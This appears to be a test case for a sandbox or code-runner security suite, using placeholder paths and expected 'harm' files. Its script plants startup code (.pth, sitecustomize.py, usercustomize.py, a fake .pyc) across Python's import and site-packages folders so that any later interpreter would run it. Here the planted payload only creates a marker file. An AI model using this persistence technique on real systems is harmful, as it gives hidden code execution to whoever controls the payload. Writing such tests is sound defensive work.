"""Plants code that the next Python to start would run.

verdicts: RE
harm: file @FOLDER@/ran
harm: file @FOLDER@/sitecustomize.py
harm: file @CHECKOUT@/@TOKEN@.pth
harm: file @CHECKOUT@/sitecustomize.py
harm: file @SITE@/@TOKEN@.pth
harm: file @SITE@/sitecustomize.py
"""

import os
import site
import sys
import sysconfig

CODE = "import os; os.close(os.open('@FOLDER@/ran', os.O_CREAT))"
folders = {
    *sys.path,
    *sysconfig.get_paths().values(),
    site.getusersitepackages(),
    "@CHECKOUT@",
    "@CHECKOUT@/tests",
    "@FOLDER@",
    ".",
}
for folder in folders:
    for name in ("@TOKEN@.pth", "sitecustomize.py", "usercustomize.py", "__pycache__/x.pyc"):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            open(os.path.join(folder, name), "x").write(CODE)
        except OSError:
            pass

raise RuntimeError("the attack is over")
